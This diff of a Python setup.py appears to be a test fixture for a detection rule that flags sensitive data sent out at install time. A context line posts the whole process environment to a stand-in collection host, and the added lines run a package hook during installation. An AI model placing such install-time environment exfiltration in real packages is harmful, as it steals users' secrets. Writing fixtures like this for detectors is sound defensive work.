@@ -12,4 +12,9 @@ requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.envir
 # ok: sensitive-data-sent
 urllib.request.urlopen(os.environ.get("DEMO_MIRROR", "https://mirror.example.invalid") + "/blob.tar.gz")
 
+# The package's own code, run by the install script: pkg/hooks.py's report() is install-time.
+from pkg.hooks import report
+
+report()
+
 setup(name="demo-fixture", version="0.1", packages=["pkg"])
